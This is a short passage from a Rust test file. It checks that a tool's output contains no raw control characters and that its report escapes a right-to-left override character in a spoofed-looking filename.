        assert!(!bad(&o) && !bad(&e), "{args:?}: raw controls: {o:?} {e:?}");
    }
    let (_, table, _) = s.env.run(&["report"]);
    assert!(table.contains("\\u{202e}fdp.exe"), "{subject:?}: {table}");
}
